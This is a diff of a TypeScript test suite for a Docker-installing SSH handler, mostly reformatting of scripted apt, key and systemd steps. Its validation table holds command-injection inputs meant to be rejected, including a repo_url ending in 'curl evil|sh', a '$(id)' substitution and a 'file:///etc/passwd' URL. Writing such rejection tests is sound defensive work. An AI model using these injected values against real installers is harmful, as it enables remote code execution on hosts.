@@ -1,11 +1,12 @@
-import { InstallerDeps } from "../../handlers/common/handler-kit";
-import { handler } from "../../handlers/install-docker/handler";
+import type { InstallerDeps } from "../../handlers/common/handler-kit";
 import { parseDockerState, unmetNeeds, versionIn } from "../../handlers/install-docker/docker-state";
+import { handler } from "../../handlers/install-docker/handler";
 import { DEBIAN_12, dpkgLine, policyBlock, UBUNTU_2204 } from "./support/fixtures";
-import { Step } from "./support/scripted-remote";
 import { runScripted } from "./support/run-scripted";
+import type { Step } from "./support/scripted-remote";
 
-const ARMORED = "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmQINBFit2ioBEADhWpZ8/wvZ6hUTiXOwQHXMAlaFHcPH9hAtr4F1y2+OYdbtMuth\n-----END PGP PUBLIC KEY BLOCK-----\n";
+const ARMORED =
+  "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmQINBFit2ioBEADhWpZ8/wvZ6hUTiXOwQHXMAlaFHcPH9hAtr4F1y2+OYdbtMuth\n-----END PGP PUBLIC KEY BLOCK-----\n";
 
 const run = (event: unknown, script: Step[], deps: Partial<InstallerDeps> = {}) => runScripted(handler, event, script, deps);
 
@@ -29,7 +30,13 @@ function inspectOut(s: VmState): string {
   if (!s.compose && s.composeV1) out += sec("compose_v1", 0, `docker-compose version ${s.composeV1}, build unknown`);
   out += sec("active", s.active === "active" ? 0 : 3, s.active ?? "inactive");
   out += sec("enabled", s.enabled === "enabled" ? 0 : 1, s.enabled ?? "Failed to get unit file state for docker.service: No such file or directory");
-  out += sec("dpkg", 1, Object.entries(pkgs).map(([n, v]) => dpkgLine(n, v).trimEnd()).join("\n"));
+  out += sec(
+    "dpkg",
+    1,
+    Object.entries(pkgs)
+      .map(([n, v]) => dpkgLine(n, v).trimEnd())
+      .join("\n"),
+  );
   out += sec("group", s.group ? 0 : 2, s.group ? `docker:x:999:${s.group.join(",")}` : "");
   for (const [u, groups] of Object.entries(s.users ?? { ubuntu: ["ubuntu", "adm", "sudo"] })) {
     out += sec(`user:${u}`, groups ? 0 : 1, groups ? groups.join(" ") : `id: '${u}': no such user`);
@@ -40,7 +47,10 @@ function inspectOut(s: VmState): string {
 
 const os = (text = UBUNTU_2204): Step => ({ match: "cat /etc/os-release", sudo: false, stdout: text });
 const look = (s: VmState, check?: Step["check"]): Step => ({
-  match: /^o=\$\(docker --version 2>&1\)/, sudo: false, stdout: inspectOut(s), check: check ?? ((_c, opts) => expect(opts.env?.LC_ALL).toBe("C")),
+  match: /^o=\$\(docker --version 2>&1\)/,
+  sudo: false,
+  stdout: inspectOut(s),
+  check: check ?? ((_c, opts) => expect(opts.env?.LC_ALL).toBe("C")),
 });
 const keyFetch = (distro: string, base = "https://download.docker.com/linux"): Step => ({
   match: `curl -fsSL --proto '=http,https' --retry 3 --connect-timeout 20 --max-time 120 -o "$t" ${base}/${distro}/gpg`,
@@ -48,7 +58,8 @@ const keyFetch = (distro: string, base = "https://download.docker.com/linux"): S
   stdout: `amd64\n${Buffer.from(ARMORED).toString("base64")}`,
 });
 const keyWrite = (line: string, changed = true): Step => ({
-  match: 'cat > "$t"', sudo: true,
+  match: 'cat > "$t"',
+  sudo: true,
   stdout: changed ? "changed:wrote /etc/apt/keyrings/docker.asc (new key)\nchanged:wrote /etc/apt/sources.list.d/docker.list (new source)\n" : "",
   check: (c) => {
     expect(c).toContain(`printf '%s\\n' '${line}' > /etc/apt/sources.list.d/docker.list.tmp`);
@@ -59,24 +70,38 @@ const staleLook = (stdout = ""): Step => ({ match: "for f in /etc/apt/sources.li
 const update: Step = { match: /^apt-get update /, sudo: true };
 const policy = (names: string, stdout: string): Step => ({ match: `apt-cache policy ${names}`, sudo: false, stdout });
 const install = (specs: string): Step => ({
-  match: new RegExp(`^apt-get install -y .*--force-confold ${specs.replace(/[.+]/g, "\\$&")}$`), sudo: true,
+  match: new RegExp(`^apt-get install -y .*--force-confold ${specs.replace(/[.+]/g, "\\$&")}$`),
+  sudo: true,
   check: (_c, opts) => expect(opts.env?.DEBIAN_FRONTEND).toBe("noninteractive"),
 });
 const usermod = (users: string[]): Step => ({ match: users.map((u) => `usermod -aG docker ${u}`).join(" && "), sudo: true });
 const info = (version = "27.0.3"): Step => ({ match: "docker info --format '{{.ServerVersion}}'", sudo: true, stdout: `${version}\n` });
-const hello: Step = { match: "docker run --rm hello-world", sudo: true, stdout: "\nHello from Docker!\nThis message shows that your installation appears to be working correctly.\n" };
+const hello: Step = {
+  match: "docker run --rm hello-world",
+  sudo: true,
+  stdout: "\nHello from Docker!\nThis message shows that your installation appears to be working correctly.\n",
+};
 
 const CE = { "docker-ce": "5:27.0.3-1~ubuntu.22.04~jammy", "docker-ce-cli": "5:27.0.3-1~ubuntu.22.04~jammy", "containerd.io": "1.7.18-1" };
 const OFFICIAL_ALL = "docker-ce docker-ce-cli containerd.io docker-buildx-plugin docker-compose-plugin";
 const officialOffer = (uri = "https://download.docker.com/linux/ubuntu") =>
   ["docker-ce", "docker-ce-cli", "containerd.io", "docker-buildx-plugin", "docker-compose-plugin"]
-    .map((n) => policyBlock(n, n.startsWith("docker-ce") ? "5:27.0.3-1~ubuntu.22.04~jammy" : "2.29.1-1~ubuntu.22.04~jammy").replace(/http:\/\/deb\.debian\.org\/debian bookworm\/main/g, `${uri} jammy/stable`))
+    .map((n) =>
+      policyBlock(n, n.startsWith("docker-ce") ? "5:27.0.3-1~ubuntu.22.04~jammy" : "2.29.1-1~ubuntu.22.04~jammy").replace(
+        /http:\/\/deb\.debian\.org\/debian bookworm\/main/g,
+        `${uri} jammy/stable`,
+      ),
+    )
     .join("");
 
 describe("install-docker: event validation (before any SSH)", () => {
   const invalid: [string, unknown, RegExp][] = [
     ["a bad channel", { channel: "snap" }, /event channel: expected one of "official", "distro", got "snap"/],
-    ["repo_url with shell syntax", { repo_url: "https://download.docker.com/linux;curl evil|sh" }, /event repo_url: "https:\/\/download\.docker\.com\/linux;curl evil\|sh" is not allowed; expected an http\(s\) URL/],
+    [
+      "repo_url with shell syntax",
+      { repo_url: "https://download.docker.com/linux;curl evil|sh" },
+      /event repo_url: "https:\/\/download\.docker\.com\/linux;curl evil\|sh" is not allowed; expected an http\(s\) URL/,
+    ],
     ["repo_url with command substitution", { repo_url: "https://$(id).example.com/linux" }, /event repo_url: /],
     ["repo_url with a quote", { repo_url: "https://mirror.example.com/li'nux" }, /event repo_url: /],
     ["repo_url not http(s)", { repo_url: "file:///etc/passwd" }, /event repo_url: /],
@@ -87,7 +112,11 @@ describe("install-docker: event validation (before any SSH)", () => {
     ["users not a list", { users: "ubuntu" }, /event users: expected a list/],
     ["a bad verify mode", { verify: "ping" }, /event verify: expected one of "hello-world", "daemon"/],
     ["compose not a boolean", { compose: "yes" }, /event compose: expected true or false, got "yes"/],
-    ["an unknown key", { composer: true }, /event composer: unknown key; allowed here: compose, channel, repo_url, users, verify, update, cache_valid_sec, apt, ssh/],
+    [
+      "an unknown key",
+      { composer: true },
+      /event composer: unknown key; allowed here: compose, channel, repo_url, users, verify, update, cache_valid_sec, apt, ssh/,
+    ],
     ["bad apt settings", { apt: { lock_attempts: 0 } }, /event apt\.lock_attempts: expected a whole number from 1 to 50/],
     ["bad ssh settings", { ssh: { attempts: "3" } }, /event ssh\.attempts: expected a whole number/],
   ];
@@ -135,27 +164,48 @@ describe("install-docker: official channel", () => {
       channel: "official",
       users_added: ["ubuntu"],
       removed: [],
-      changed: true, changes: [
+      changed: true,
+      changes: [
         "wrote /etc/apt/keyrings/docker.asc (new key)",
         "wrote /etc/apt/sources.list.d/docker.list (new source)",
         `installed ${OFFICIAL_ALL}`,
         "added ubuntu to group docker",
       ],
-      repository: { uri: "https://download.docker.com/linux/ubuntu", suite: "jammy", line, keyring: "/etc/apt/keyrings/docker.asc", source_file: "/etc/apt/sources.list.d/docker.list" },
+      repository: {
+        uri: "https://download.docker.com/linux/ubuntu",
+        suite: "jammy",
+        line,
+        keyring: "/etc/apt/keyrings/docker.asc",
+        source_file: "/etc/apt/sources.list.d/docker.list",
+      },
       apt_update: { ran: true, reason: "an apt source changed" },
       verify: { mode: "hello-world", detail: "docker run --rm hello-world: Hello from Docker!" },
       packages: { "docker-ce": "5:27.0.3-1~ubuntu.22.04~jammy", "containerd.io": "1.7.18-1" },
       os: { id: "ubuntu", codename: "jammy" },
     });
-    expect(Object.keys(result!.timings_ms)).toEqual(["validate", "connect", "os", "check", "apt_repository", "apt_update", "candidates", "apt_install", "users", "verify", "total"]);
-    expect(lines).toContain("[install-docker] to do (channel official): the docker CLI is not installed; docker-ce from Docker's repository is not installed; the compose plugin (docker compose) is not installed");
+    expect(Object.keys(result!.timings_ms)).toEqual([
+      "validate",
+      "connect",
+      "os",
+      "check",
+      "apt_repository",
+      "apt_update",
+      "candidates",
+      "apt_install",
+      "users",
+      "verify",
+      "total",
+    ]);
+    expect(lines).toContain(
+      "[install-docker] to do (channel official): the docker CLI is not installed; docker-ce from Docker's repository is not installed; the compose plugin (docker compose) is not installed",
+    );
     expect(lines.some((l) => /^\[install-docker\] apt-get install docker-ce .* \.\.\. \d+\.\ds$/.test(l))).toBe(true);
   });
 
   it("Debian 12 (bookworm): the debian tree of the repository and a mirror from repo_url", async () => {
     const mirror = "https://mirror.example.com/docker-ce/linux";
     const line = `deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.asc] ${mirror}/debian bookworm stable`;
-    const { result, remote, error } = await run({ repo_url: mirror + "/", verify: "daemon", users: [] }, [
+    const { result, remote, error } = await run({ repo_url: `${mirror}/`, verify: "daemon", users: [] }, [
       os(DEBIAN_12),
       look({}, (c) => expect(c).not.toContain("id -nG")),
       keyFetch("debian", mirror),
@@ -174,7 +224,12 @@ describe("install-docker: official channel", () => {
     ]);
     expect(error).toBeUndefined();
     expect(remote.done).toBe(true);
-    expect(result).toMatchObject({ status: "ok", repository: { uri: `${mirror}/debian`, suite: "bookworm", line }, users_added: [], verify: { mode: "daemon", detail: "docker info: server version 27.0.3" } });
+    expect(result).toMatchObject({
+      status: "ok",
+      repository: { uri: `${mirror}/debian`, suite: "bookworm", line },
+      users_added: [],
+      verify: { mode: "daemon", detail: "docker info: server version 27.0.3" },
+    });
   });
 
   it("removes the conflicting packages that are installed (only those), then stale sources, and unmasks the unit", async () => {
@@ -184,13 +239,21 @@ describe("install-docker: official channel", () => {
       os(UBUNTU_2204),
       look({ cli: "24.0.7", active: "active", enabled: "enabled", packages: distroDocker, group: ["ubuntu"], users: { ubuntu: ["ubuntu", "docker"] } }),
       {
-        match: /^apt-get remove -y -q -o DPkg::Lock::Timeout=30 docker\.io containerd runc$/, sudo: true,
-        stdout: "Removing docker.io (24.0.7-0ubuntu2~22.04.1) ...\nRemoving containerd (1.7.12-0ubuntu2~22.04.1) ...\nRemoving runc (1.1.12-0ubuntu2~22.04.1) ...\nRemoving pigz (2.6-1) ...\n",
+        match: /^apt-get remove -y -q -o DPkg::Lock::Timeout=30 docker\.io containerd runc$/,
+        sudo: true,
+        stdout:
+          "Removing docker.io (24.0.7-0ubuntu2~22.04.1) ...\nRemoving containerd (1.7.12-0ubuntu2~22.04.1) ...\nRemoving runc (1.1.12-0ubuntu2~22.04.1) ...\nRemoving pigz (2.6-1) ...\n",
       },
       keyFetch("ubuntu"),
       keyWrite(line),
-      staleLook(`@@@file /etc/apt/sources.list.d/docker.list\n${line}\n\n@@@end\n@@@file /etc/apt/sources.list.d/archive_uri-https_download_docker_com_linux_ubuntu-jammy.list\ndeb [arch=amd64] https://download.docker.com/linux/ubuntu jammy stable\n\n@@@end\n`),
-      { match: "rm -f /etc/apt/sources.list.d/archive_uri-https_download_docker_com_linux_ubuntu-jammy.list", sudo: true, stdout: "changed:removed /etc/apt/sources.list.d/archive_uri-https_download_docker_com_linux_ubuntu-jammy.list\n" },
+      staleLook(
+        `@@@file /etc/apt/sources.list.d/docker.list\n${line}\n\n@@@end\n@@@file /etc/apt/sources.list.d/archive_uri-https_download_docker_com_linux_ubuntu-jammy.list\ndeb [arch=amd64] https://download.docker.com/linux/ubuntu jammy stable\n\n@@@end\n`,
+      ),
+      {
+        match: "rm -f /etc/apt/sources.list.d/archive_uri-https_download_docker_com_linux_ubuntu-jammy.list",
+        sudo: true,
+        stdout: "changed:removed /etc/apt/sources.list.d/archive_uri-https_download_docker_com_linux_ubuntu-jammy.list\n",
+      },
       update,
       policy("docker-ce docker-ce-cli containerd.io docker-buildx-plugin", officialOffer().split("docker-compose-plugin:")[0]),
       install("docker-ce docker-ce-cli containerd.io docker-buildx-plugin"),
@@ -219,7 +282,12 @@ describe("install-docker: official channel", () => {
     const line = "deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.asc] https://download.docker.com/linux/ubuntu jammy stable";
     const noBuildx = officialOffer().replace(/docker-buildx-plugin:[\s\S]*?(?=docker-compose-plugin:)/, "");
     const ok = await run({ verify: "daemon" }, [
-      os(), look({}), keyFetch("ubuntu"), keyWrite(line, false), staleLook(), update,
+      os(),
+      look({}),
+      keyFetch("ubuntu"),
+      keyWrite(line, false),
+      staleLook(),
+      update,
       policy(OFFICIAL_ALL, noBuildx),
       install("docker-ce docker-ce-cli containerd.io docker-compose-plugin"),
       look({ cli: "27.0.3", compose: "2.29.1", active: "active", enabled: "enabled", packages: CE, group: ["ubuntu"], users: { ubuntu: ["docker"] } }),
@@ -239,10 +307,13 @@ describe("install-docker: official channel", () => {
   it("installs curl first when the VM lacks it (Docker's docs, step 1: ca-certificates curl)", async () => {
     const line = "deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.asc] https://download.docker.com/linux/ubuntu jammy stable";
     const { result, error, remote } = await run({ verify: "daemon", compose: false }, [
-      os(), look({ curl: false, packages: { curl: "" } as never }),
+      os(),
+      look({ curl: false, packages: { curl: "" } as never }),
       update,
       install("curl"),
-      keyFetch("ubuntu"), keyWrite(line), staleLook(),
+      keyFetch("ubuntu"),
+      keyWrite(line),
+      staleLook(),
       update,
       policy("docker-ce docker-ce-cli containerd.io docker-buildx-plugin", officialOffer()),
       install("docker-ce docker-ce-cli containerd.io docker-buildx-plugin"),
@@ -257,8 +328,17 @@ describe("install-docker: official channel", () => {
   it("apt-get update failing on the new source says which line and what repo_url must serve", async () => {
     const line = "deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.asc] https://mirror.example.com/linux/ubuntu jammy stable";
     const { error } = await run({ repo_url: "https://mirror.example.com/linux" }, [
-      os(), look({}), keyFetch("ubuntu", "https://mirror.example.com/linux"), keyWrite(line), staleLook(),
-      { match: /^apt-get update /, sudo: true, code: 100, stderr: "E: The repository 'https://mirror.example.com/linux/ubuntu jammy Release' does not have a Release file.\n" },
+      os(),
+      look({}),
+      keyFetch("ubuntu", "https://mirror.example.com/linux"),
+      keyWrite(line),
+      staleLook(),
+      {
+        match: /^apt-get update /,
+        sudo: true,
+        code: 100,
+        stderr: "E: The repository 'https://mirror.example.com/linux/ubuntu jammy Release' does not have a Release file.\n",
+      },
     ]);
     expect(error?.message).toBe(
       `install-docker failed while installing: apt-get update failed with Docker's repository configured (/etc/apt/sources.list.d/docker.list: ${line}): ` +
@@ -272,13 +352,28 @@ describe("install-docker: already installed", () => {
   it("runs the checks and nothing else: no apt, no sudo", async () => {
     const { result, remote, lines } = await run({}, [
       os(),
-      look({ cli: "27.0.3", compose: "2.29.1", active: "active", enabled: "enabled", packages: CE, group: ["ubuntu"], users: { ubuntu: ["ubuntu", "sudo", "docker"] } }),
+      look({
+        cli: "27.0.3",
+        compose: "2.29.1",
+        active: "active",
+        enabled: "enabled",
+        packages: CE,
+        group: ["ubuntu"],
+        users: { ubuntu: ["ubuntu", "sudo", "docker"] },
+      }),
     ]);
     expect(remote.done).toBe(true);
     expect(remote.calls.map((c) => !!c.opts.sudo)).toEqual([false, false]);
     expect(result).toMatchObject({
-      status: "ok", changed: false, changes: [], docker_version: "27.0.3", compose: true, compose_version: "2.29.1", users_added: [],
-      apt_update: { ran: false, reason: "nothing to install" }, verify: { mode: "skipped" },
+      status: "ok",
+      changed: false,
+      changes: [],
+      docker_version: "27.0.3",
+      compose: true,
+      compose_version: "2.29.1",
+      users_added: [],
+      apt_update: { ran: false, reason: "nothing to install" },
+      verify: { mode: "skipped" },
     });
     expect(lines).toContain("[install-docker] Docker 27.0.3 already installed; nothing changed");
   });
@@ -286,7 +381,15 @@ describe("install-docker: already installed", () => {
   it("puts a missing group membership right without touching packages", async () => {
     const { result, remote } = await run({ users: ["ubuntu", "deploy"] }, [
       os(),
-      look({ cli: "27.0.3", compose: "2.29.1", active: "active", enabled: "enabled", packages: CE, group: ["ubuntu"], users: { ubuntu: ["docker"], deploy: ["deploy"] } }),
+      look({
+        cli: "27.0.3",
+        compose: "2.29.1",
+        active: "active",
+        enabled: "enabled",
+        packages: CE,
+        group: ["ubuntu"],
+        users: { ubuntu: ["docker"], deploy: ["deploy"] },
+      }),
       usermod(["deploy"]),
     ]);
     expect(remote.done).toBe(true);
@@ -294,7 +397,15 @@ describe("install-docker: already installed", () => {
   });
 
   it("distro channel: docker.io with compose v1 counts; official channel does not accept docker.io", async () => {
-    const v1 = { cli: "20.10.24+dfsg1", composeV1: "1.29.2", active: "active", enabled: "enabled", packages: { "docker.io": "20.10.24+dfsg1-1+b3", "docker-compose": "1.29.2-3" }, group: ["ubuntu"], users: { ubuntu: ["docker"] } };
+    const v1 = {
+      cli: "20.10.24+dfsg1",
+      composeV1: "1.29.2",
+      active: "active",
+      enabled: "enabled",
+      packages: { "docker.io": "20.10.24+dfsg1-1+b3", "docker-compose": "1.29.2-3" },
+      group: ["ubuntu"],
+      users: { ubuntu: ["docker"] },
+    };
     const distro = await run({ channel: "distro" }, [os(DEBIAN_12), look(v1)]);
     expect(distro.result).toMatchObject({ status: "ok", compose: true, compose_version: "1.29.2", compose_command: "docker-compose", channel: "distro" });
     expect(unmetNeeds(parseDockerState(inspectOut(v1), ["ubuntu"]), { channel: "official", compose: true })).toEqual([
@@ -331,28 +442,57 @@ describe("install-docker: distro channel", () => {
       os(DEBIAN_12),
       look({}),
       update,
-      policy("docker.io docker-compose-v2 docker-compose-plugin docker-compose", policyBlock("docker.io", "20.10.24+dfsg1-1+b3") + policyBlock("docker-compose", "1.29.2-3")),
+      policy(
+        "docker.io docker-compose-v2 docker-compose-plugin docker-compose",
+        policyBlock("docker.io", "20.10.24+dfsg1-1+b3") + policyBlock("docker-compose", "1.29.2-3"),
+      ),
       install("docker.io docker-compose"),
-      look({ cli: "20.10.24+dfsg1", composeV1: "1.29.2", active: "active", enabled: "enabled", packages: { "docker.io": "20.10.24+dfsg1-1+b3", "docker-compose": "1.29.2-3" }, group: [] }),
+      look({
+        cli: "20.10.24+dfsg1",
+        composeV1: "1.29.2",
+        active: "active",
+        enabled: "enabled",
+        packages: { "docker.io": "20.10.24+dfsg1-1+b3", "docker-compose": "1.29.2-3" },
+        group: [],
+      }),
       usermod(["ubuntu"]),
       info("20.10.24+dfsg1"),
     ]);
     expect(error).toBeUndefined();
     expect(remote.done).toBe(true);
     expect(result).toMatchObject({
-      status: "ok", channel: "distro", docker_version: "20.10.24+dfsg1", compose_command: "docker-compose", compose_version: "1.29.2",
-      changed: true, changes: ["installed docker.io docker-compose", "added ubuntu to group docker"],
-      warnings: ["the distribution's compose is docker-compose 1.29.2-3: compose v1 (Python), called as docker-compose; channel \"official\" has v2"],
+      status: "ok",
+      channel: "distro",
+      docker_version: "20.10.24+dfsg1",
+      compose_command: "docker-compose",
+      compose_version: "1.29.2",
+      changed: true,
+      changes: ["installed docker.io docker-compose", "added ubuntu to group docker"],
+      warnings: ['the distribution\'s compose is docker-compose 1.29.2-3: compose v1 (Python), called as docker-compose; channel "official" has v2'],
     });
     expect(result!.repository).toBeUndefined();
   });
 
   it("Ubuntu: prefers docker-compose-v2 when apt offers it", async () => {
     const { result, error } = await run({ channel: "distro", verify: "daemon", users: [] }, [
-      os(UBUNTU_2204), look({}), update,
-      policy("docker.io docker-compose-v2", policyBlock("docker.io", "24.0.7-0ubuntu2~22.04.1") + policyBlock("docker-compose-v2", "2.24.6+ds1-0ubuntu1~22.04.1") + policyBlock("docker-compose", "1.29.2-1")),
+      os(UBUNTU_2204),
+      look({}),
+      update,
+      policy(
+        "docker.io docker-compose-v2",
+        policyBlock("docker.io", "24.0.7-0ubuntu2~22.04.1") +
+          policyBlock("docker-compose-v2", "2.24.6+ds1-0ubuntu1~22.04.1") +
+          policyBlock("docker-compose", "1.29.2-1"),
+      ),
       install("docker.io docker-compose-v2"),
-      look({ cli: "24.0.7", compose: "2.24.6+ds1-0ubuntu1~22.04.1", active: "active", enabled: "enabled", packages: { "docker.io": "24.0.7-0ubuntu2~22.04.1" }, group: [] }),
+      look({
+        cli: "24.0.7",
+        compose: "2.24.6+ds1-0ubuntu1~22.04.1",
+        active: "active",
+        enabled: "enabled",
+        packages: { "docker.io": "24.0.7-0ubuntu2~22.04.1" },
+        group: [],
+      }),
       info("24.0.7"),
     ]);
     expect(error).toBeUndefined();
@@ -369,13 +509,27 @@ describe("install-docker: verify modes and failures", () => {
   const installed = { cli: "27.0.3", compose: "2.29.1", active: "active", enabled: "enabled", packages: CE, group: ["ubuntu"], users: { ubuntu: ["docker"] } };
   const toInstall = (verifyMode: string, tailSteps: Step[]) =>
     run({ verify: verifyMode, channel: "distro", compose: false }, [
-      os(), look({}), update, policy("docker.io", policyBlock("docker.io", "24.0.7-0ubuntu2~22.04.1")), install("docker.io"),
-      look(installed), ...tailSteps,
+      os(),
+      look({}),
+      update,
+      policy("docker.io", policyBlock("docker.io", "24.0.7-0ubuntu2~22.04.1")),
+      install("docker.io"),
+      look(installed),
+      ...tailSteps,
     ]);
 
   it("hello-world that cannot pull names the registry and the daemon mode", async () => {
-    const { error } = await toInstall("hello-world", [info(), { match: "docker run --rm hello-world", code: 125, stderr: "docker: Error response from daemon: Get \"https://registry-1.docker.io/v2/\": dial tcp: lookup registry-1.docker.io: no such host.\n" }]);
-    expect(error?.message).toMatch(/Docker is installed and its daemon runs \(server 27\.0\.3\), but `docker run --rm hello-world` failed \(exit 125\): docker: Error response from daemon: .*no such host\.\. The VM must reach Docker Hub .* set verify to "daemon"\./s);
+    const { error } = await toInstall("hello-world", [
+      info(),
+      {
+        match: "docker run --rm hello-world",
+        code: 125,
+        stderr: 'docker: Error response from daemon: Get "https://registry-1.docker.io/v2/": dial tcp: lookup registry-1.docker.io: no such host.\n',
+      },
+    ]);
+    expect(error?.message).toMatch(
+      /Docker is installed and its daemon runs \(server 27\.0\.3\), but `docker run --rm hello-world` failed \(exit 125\): docker: Error response from daemon: .*no such host\.\. The VM must reach Docker Hub .* set verify to "daemon"\./s,
+    );
   });
 
   it("daemon mode does not run a container", async () => {
@@ -385,18 +539,35 @@ describe("install-docker: verify modes and failures", () => {
   });
 
   it("a daemon that does not answer fails the job with where to look", async () => {
-    const { error } = await toInstall("daemon", [{ match: "docker info", code: 1, stderr: "Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?\n" }]);
+    const { error } = await toInstall("daemon", [
+      { match: "docker info", code: 1, stderr: "Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?\n" },
+    ]);
     expect(error?.message).toMatch(/the daemon does not answer: `docker info` exited 1: Cannot connect to the Docker daemon.*journalctl -u docker/s);
   });
 
   it("a service that does not start shows the journal", async () => {
     const { error } = await run({ channel: "distro", compose: false, verify: "daemon" }, [
-      os(), look({}), update, policy("docker.io", policyBlock("docker.io", "24.0.7-0ubuntu2~22.04.1")), install("docker.io"),
+      os(),
+      look({}),
+      update,
+      policy("docker.io", policyBlock("docker.io", "24.0.7-0ubuntu2~22.04.1")),
+      install("docker.io"),
       look({ ...installed, active: "failed" }),
-      { match: "systemctl start docker.service", sudo: true, code: 1, stderr: "Job for docker.service failed because the control process exited with error code.\n" },
-      { match: "journalctl -u docker.service", sudo: true, stdout: "unable to configure the Docker daemon with file /etc/docker/daemon.json: invalid character\n" },
+      {
+        match: "systemctl start docker.service",
+        sudo: true,
+        code: 1,
+        stderr: "Job for docker.service failed because the control process exited with error code.\n",
+      },
+      {
+        match: "journalctl -u docker.service",
+        sudo: true,
+        stdout: "unable to configure the Docker daemon with file /etc/docker/daemon.json: invalid character\n",
+      },
     ]);
-    expect(error?.message).toMatch(/docker\.service did not start \(systemctl start docker\.service\): Job for docker\.service failed[\s\S]*journalctl -u docker\.service[\s\S]*daemon\.json: invalid character[\s\S]*run the job again/);
+    expect(error?.message).toMatch(
+      /docker\.service did not start \(systemctl start docker\.service\): Job for docker\.service failed[\s\S]*journalctl -u docker\.service[\s\S]*daemon\.json: invalid character[\s\S]*run the job again/,
+    );
   });
 });
 
@@ -409,7 +580,10 @@ describe("install-docker: parsing", () => {
   });
 
   it("takes an error text from systemctl as no state", () => {
-    const state = parseDockerState("@@@active 1\nSystem has not been booted with systemd as init system (PID 1). Can't operate.\n@@@enabled 1\nFailed to get unit file state for docker.service: No such file or directory\n", []);
+    const state = parseDockerState(
+      "@@@active 1\nSystem has not been booted with systemd as init system (PID 1). Can't operate.\n@@@enabled 1\nFailed to get unit file state for docker.service: No such file or directory\n",
+      [],
+    );
     expect(state.active).toBe("");
     expect(state.enabled).toBe("");
   });
